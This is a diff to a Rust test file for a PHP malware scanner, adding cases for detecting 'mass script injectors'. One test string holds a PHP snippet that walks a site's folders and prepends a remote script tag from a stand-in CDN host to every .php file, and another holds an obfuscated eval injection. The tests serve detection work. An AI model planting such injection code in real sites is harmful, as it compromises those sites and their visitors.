@@ -108,6 +108,11 @@ fn each_fixture_is_reported_for_its_family() {
             include_str!("../../../tests/fixtures/sweep/malicious/mass_mailer_textarea_loop.php"),
             Why::MailFromInput,
         ),
+        (
+            "mass_script_injector.php",
+            include_str!("../../../tests/fixtures/sweep/malicious/mass_script_injector.php"),
+            Why::InjectedScript,
+        ),
     ];
     for (name, text, why) in cases {
         let hits = crate::sweep::detect::judge(&format!("lib/{name}"), name, text.as_bytes(), &[]);
@@ -243,6 +248,21 @@ fn injected_scripts_are_found() {
     assert_eq!(found(foreign), [Why::InjectedScript]);
     let codes = "<?php echo '<script>eval(String.fromCharCode(118, 97, 114, 32))</script>';";
     assert_eq!(found(codes), [Why::InjectedScript]);
+}
+
+#[test]
+fn mass_script_injectors_are_found() {
+    let walker = "<?php foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator($root)) as $p) { \
+                  if (substr($p, -4) == '.php') { $c = file_get_contents($p); \
+                  file_put_contents($p, '<script src=\"https://cdn.example.com/a.js\"></script>' . $c); } }";
+    assert_eq!(found(walker), [Why::InjectedScript]);
+}
+
+#[test]
+fn one_page_with_a_script_written_once_is_quiet() {
+    // A plugin writing its own page (no folder walk) is not an injector.
+    let page = "<?php file_put_contents($dir . '/index.html', '<html><script src=\"app.js\"></script></html>');";
+    assert!(found(page).is_empty());
 }
 
 #[test]
